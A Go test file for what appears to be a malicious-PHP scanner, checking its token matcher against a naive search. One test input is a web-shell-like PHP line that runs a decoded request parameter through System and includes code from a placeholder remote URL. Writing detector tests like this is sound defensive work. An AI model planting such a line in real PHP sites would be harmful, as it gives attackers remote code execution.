package phpscan

import (
	"bytes"
	"math/rand/v2"
	"slices"
	"testing"
)

// matchAll is every (start, token) the automaton finds, walked the way
// the prefilter walks it.
func matchAll(m *matcher, s []byte) [][2]int {
	var got [][2]int
	st := uint32(0)
	for i, c := range s {
		st = m.next[st+uint32(m.class[c])]
		if st&outBit == 0 {
			continue
		}
		st &^= outBit
		for _, t := range m.outs[st/m.width] {
			got = append(got, [2]int{i + 1 - m.lens[t], int(t)})
		}
	}
	slices.SortFunc(got, func(a, b [2]int) int {
		if a[0] != b[0] {
			return a[0] - b[0]
		}
		return a[1] - b[1]
	})
	return got
}

// naiveAll is the same found by trying every token at every position.
func naiveAll(toks [][]byte, s []byte) [][2]int {
	var want [][2]int
	for i := range s {
		for t, tok := range toks {
			if i+len(tok) <= len(s) && bytes.EqualFold(s[i:i+len(tok)], tok) {
				want = append(want, [2]int{i, t})
			}
		}
	}
	return want
}

// Tokens that are prefixes, suffixes and inner parts of each other, in
// texts over a small alphabet so that they overlap often.
func TestMatcherFindsEveryOccurrence(t *testing.T) {
	toks := tokens("ab", "abc", "bc", "c", "bcab", "aBa", "$_", "$_GET", "_g", "cab'", "'", "zz")
	m := newMatcher(toks)
	rng := rand.New(rand.NewPCG(1, 2))
	alphabet := []byte("abcABC$_Get'z\x00\xff")
	for n := 0; n < 3000; n++ {
		s := make([]byte, rng.IntN(40))
		for i := range s {
			s[i] = alphabet[rng.IntN(len(alphabet))]
		}
		if got, want := matchAll(m, s), naiveAll(toks, s); !slices.Equal(got, want) {
			t.Fatalf("%q: got %v, want %v", s, got, want)
		}
		if got, want := m.contains(s), len(naiveAll(toks, s)) > 0; got != want {
			t.Fatalf("%q: contains %v, want %v", s, got, want)
		}
	}
}

// The prefilter's own tokens on real-looking code.
func TestMatcherPrefilterTokens(t *testing.T) {
	src := []byte(`<?php $x = base64_decode($_GET['a']); @System($x); include_once("http://e/x"); // $_post`)
	var all [][]byte
	for _, group := range [][][]byte{relevantTokens, requestTokens, weakTokens, actionTokens} {
		all = append(all, group...)
	}
	m := newMatcher(all)
	if got, want := matchAll(m, src), naiveAll(all, src); !slices.Equal(got, want) {
		t.Fatalf("got %v, want %v", got, want)
	}
}
